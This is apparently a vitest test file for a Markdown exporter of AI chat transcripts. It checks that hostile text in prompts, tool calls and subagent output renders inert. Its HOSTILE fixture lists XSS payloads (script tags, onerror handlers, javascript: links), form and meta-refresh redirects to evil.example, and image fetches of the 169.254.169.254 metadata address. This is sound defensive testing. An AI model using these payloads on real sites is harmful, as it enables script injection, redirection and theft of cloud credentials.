import { describe, expect, it } from "vitest";
import { emptyStats, type ChatTurn, type ToolCall } from "@/lib/contracts";
import type { Element, Root } from "hast";
import { fromHtml } from "hast-util-from-html";
import { toText } from "hast-util-to-text";
import { micromark } from "micromark";
import { gfm } from "micromark-extension-gfm";
import { gfmAutolinkLiteralHtml } from "micromark-extension-gfm-autolink-literal";
import { gfmFootnoteHtml } from "micromark-extension-gfm-footnote";
import { gfmStrikethroughHtml } from "micromark-extension-gfm-strikethrough";
import { gfmTableHtml } from "micromark-extension-gfm-table";
import { gfmTaskListItemHtml } from "micromark-extension-gfm-task-list-item";
import { inertMarkdown } from "./inert-markdown";
import { markdownHeader, turnMarkdown } from "./markdown";

const call = (callId: string, status: ToolCall["status"], response: string): ToolCall => ({
  callId,
  name: "grep",
  parameters: "{}",
  response,
  responseSize: response.length,
  status,
});

describe("turnMarkdown", () => {
  it("says a turn its budget stopped ran out of budget, not that it failed", () => {
    const turn: ChatTurn = {
      turnId: "t1",
      sessionId: "s1",
      prompt: "survey",
      steps: [{ text: "Starting.", thinking: "", toolCalls: [] }],
      stats: emptyStats(),
      status: "failed",
      endReason: "budget_exceeded",
      error: "The turn used 1,500 of 1,500 tokens and stopped before finishing its answer.",
      createdAt: "2026-01-01T00:00:00.000Z",
    };
    const text = turnMarkdown(turn);
    expect(text).toContain("> **Out of budget:** The turn used 1,500 of 1,500 tokens and stopped");
    expect(text).not.toContain("Failed");
  });

  it("says which calls failed and which were stopped, each from its status", () => {
    const turn: ChatTurn = {
      turnId: "t1",
      sessionId: "s1",
      prompt: "look",
      steps: [
        {
          text: "Looking.",
          thinking: "",
          toolCalls: [
            call("c1", "success", "hit"),
            call("c2", "error", "Error [tool_failed]: no such file"),
            call("c3", "cancelled", 'Error [cancelled]: "grep" was stopped before it finished.'),
          ],
        },
      ],
      stats: emptyStats(),
      status: "cancelled",
      createdAt: "2026-06-01T10:00:00.000Z",
    };
    const summaries = turnMarkdown(turn).match(/<summary>🔧 [^<]*<\/summary>/g);
    expect(summaries).toEqual(["<summary>🔧 grep</summary>", "<summary>🔧 grep — error</summary>", "<summary>🔧 grep — stopped</summary>"]);
  });
});

/**
 * Every way a text could turn into markup or a fetch in a renderer that passes HTML through
 * (marked with its defaults; markdown-it with `html: true`, which the `<details>` folds
 * need). Rendered here with micromark, CommonMark's reference parser in JavaScript, with
 * raw HTML and every URL protocol allowed, alone and with GFM; then parsed as a browser
 * would (parse5) to see what elements it made.
 */
const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(2)">',
  '<svg onload="alert(3)"></svg>',
  '<a href="javascript:alert(4)">click</a> [click](javascript:alert(5)) [data](data:text/html;base64,PHNjcmlwdD4=)',
  "<style>body{display:none}</style>",
  '<form action="https://evil.example/"><input name=p></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "</summary></details></details>",
  "![tracker](http://169.254.169.254/latest/meta-data/)",
  "<http://evil.example/autolink> <javascript:alert(6)>",
  "[ref]: javascript:alert(7)",
  "[ref] ![ref] ![also][ref] \\![escaped](http://169.254.169.254/x) &lt;script&gt;alert(8)&lt;/script&gt; &#106;avascript:",
  "a `<b onmouseover=alert(9)>` span | `x | <img src=y onerror=alert(10)>` |",
].join("\n\n");
/** A fence the text leaves open, indented as CommonMark still allows: it must not run on into what follows. */
const OPEN_FENCE = "\n\n  ```";

const hostileTurn = (): ChatTurn => ({
  turnId: "t1",
  sessionId: "s1",
  prompt: HOSTILE,
  steps: [
    {
      text: HOSTILE + OPEN_FENCE,
      thinking: "",
      toolCalls: [
        {
          ...call("c1", "success", HOSTILE),
          name: "grep\n\n![x](http://169.254.169.254/name)",
          parameters: JSON.stringify({ pattern: HOSTILE }),
          approval: { state: "denied", requestedAt: "2026-06-01T10:00:00.000Z", reason: HOSTILE, denyReason: HOSTILE },
        },
        {
          ...call("c2", "success", HOSTILE),
          name: "subagent",
          subagent: {
            runId: "r1",
            parentRunId: null,
            depth: 1,
            name: "explore\n\n<img src=x onerror=alert(11)>",
            task: HOSTILE,
            prompt: HOSTILE,
            model: HOSTILE,
            steering: [{ step: 0, message: HOSTILE, at: "2026-06-01T10:00:01.000Z" }],
            steps: [{ text: HOSTILE + "\n\n```", thinking: HOSTILE, toolCalls: [] }],
            response: HOSTILE,
            stats: emptyStats(),
            status: "error",
            endReason: "failed",
            error: HOSTILE,
            startedAt: "2026-06-01T10:00:00.000Z",
          },
        },
      ],
    },
  ],
  stats: emptyStats(),
  status: "failed",
  error: HOSTILE,
  createdAt: "2026-06-01T10:00:00.000Z",
});

const RENDERERS = {
  commonmark: (md: string) => micromark(md, { allowDangerousHtml: true, allowDangerousProtocol: true }),
  gfm: (md: string) =>
    micromark(md, {
      allowDangerousHtml: true,
      allowDangerousProtocol: true,
      extensions: [gfm()],
      // GFM's tag filter left out: marked and markdown-it have none.
      htmlExtensions: [gfmAutolinkLiteralHtml(), gfmFootnoteHtml(), gfmStrikethroughHtml(), gfmTableHtml(), gfmTaskListItemHtml()],
    }),
};

/** Elements plain text and the transcript's own structure render to; nothing that runs, fetches or submits. */
const TEXT_ELEMENTS = new Set(
  "details summary p h1 h3 hr blockquote strong em del code pre sub ul ol li br table thead tbody tr th td a".split(" "),
);

function elements(node: Root | Element): Element[] {
  return node.children.flatMap((child) => (child.type === "element" ? [child, ...elements(child)] : []));
}

function childElements(node: Element): Element[] {
  return node.children.filter((child): child is Element => child.type === "element");
}

describe("turnMarkdown with hostile text", () => {
  const md = markdownHeader(HOSTILE, "2026-06-01T10:00:00.000Z") + turnMarkdown(hostileTurn(), { markup: true });

  it("opens and closes exactly its own folds", () => {
    // The tool, the subagent, its reasoning, what it returned, and the markup.
    // (Inside code, the hostile text's own tags stay as written.)
    expect(md.match(/^<details><summary>[^<\n]*<\/summary>$/gm)).toHaveLength(5);
    expect(md.match(/^<\/details>$/gm)).toHaveLength(5);
  });

  for (const [renderer, render] of Object.entries(RENDERERS)) {
    describe(`rendered by micromark (${renderer}, raw HTML and every protocol allowed)`, () => {
      const tree = fromHtml(render(md), { fragment: true });
      const all = elements(tree);

      it("makes no element that runs, fetches or submits", () => {
        expect([...new Set(all.map((e) => e.tagName))].filter((tag) => !TEXT_ELEMENTS.has(tag))).toEqual([]);
      });

      it("carries no handler, no style, no link the text did not show as it is", () => {
        for (const element of all) {
          for (const [name, value] of Object.entries(element.properties)) {
            if (element.tagName === "code" && name === "className") expect(value).toEqual([expect.stringMatching(/^language-\w+$/)]);
            else if (element.tagName === "a" && name === "href") {
              // Only GFM's bare-URL links, whose text is their address.
              expect(renderer).toBe("gfm");
              expect(value).toMatch(/^https?:\/\//);
              expect(toText(element)).toBe(decodeURI(String(value)));
            } else expect.fail(`<${element.tagName} ${name}="${String(value)}">`);
          }
        }
      });

      it("keeps each fold whole: nothing inside closed one early or opened another", () => {
        const details = all.filter((e) => e.tagName === "details");
        expect(details).toHaveLength(5);
        for (const fold of details) expect(childElements(fold)[0]?.tagName).toBe("summary");
        const top = childElements(tree as unknown as Element).filter((e) => e.tagName === "details");
        const summaries = top.map((fold) => toText(childElements(fold)[0]!));
        expect(summaries).toHaveLength(3);
        expect(summaries[0]).toBe("🔧 grep ![x](http://169.254.169.254/name)");
        expect(summaries[1]).toMatch(/^🤖 explore <img src=x onerror=alert\(11\)>: <script>alert\(1\)<\/script> <img/);
        expect(summaries[2]).toBe("SubagentExecution markup");
        const inner = elements(top[1]!).filter((e) => e.tagName === "details");
        expect(inner.map((fold) => toText(childElements(fold)[0]!))).toEqual(["Reasoning", "Returned to the parent"]);
        // The reasoning, after a fence the answer left open, is still code.
        expect(toText(inner[0]!)).toContain('<img src=x onerror="alert(2)">');
        expect(elements(inner[0]!).map((e) => e.tagName)).toEqual(["summary", "pre", "code"]);
      });

      it("shows the hostile text as the text it is", () => {
        const text = toText(tree);
        expect(text).toContain("<script>alert(1)</script>");
        expect(text).toContain("![tracker](http://169.254.169.254/latest/meta-data/)");
        expect(text).toContain("</summary></details></details>");
        expect(text).toContain("<http://evil.example/autolink>");
        expect(text).toContain("a <b onmouseover=alert(9)> span");
      });
    });
  }
});

describe("inertMarkdown", () => {
  const render = (text: string) => RENDERERS.gfm(inertMarkdown(text));

  it("keeps a model's own Markdown: headings, lists, emphasis, quotes, tables, code", () => {
    const text =
      "# Plan\n\n- **bold** and _em_ and `code`\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst less = 1 < 2 && `x`;\n```";
    expect(render(text)).toBe(
      "<h1>Plan</h1>\n<ul>\n<li><strong>bold</strong> and <em>em</em> and <code>code</code></li>\n</ul>\n<blockquote>\n<p>quoted</p>\n</blockquote>\n" +
        "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n" +
        '<pre><code class="language-ts">const less = 1 &lt; 2 &amp;&amp; `x`;\n</code></pre>',
    );
  });

  it("shows code with markup characters in it as code, its characters as written", () => {
    expect(render("Use `Vec<u8>` or ``a `*b*` [c]``.")).toBe("<p>Use <code>Vec&lt;u8&gt;</code> or <code>a `*b*` [c]</code>.</p>");
  });

  it("closes a fence the text left open, with a fence longer than any run of backticks inside", () => {
    const out = inertMarkdown("~~~\nopen ```` fence");
    expect(out).toBe("`````\nopen ```` fence\n`````");
    // A lone CR ends a line for CommonMark too: the fence behind it is found and closed.
    expect(inertMarkdown("x\r```\r<b>")).toBe("x\n```\n<b>\n```");
  });
});
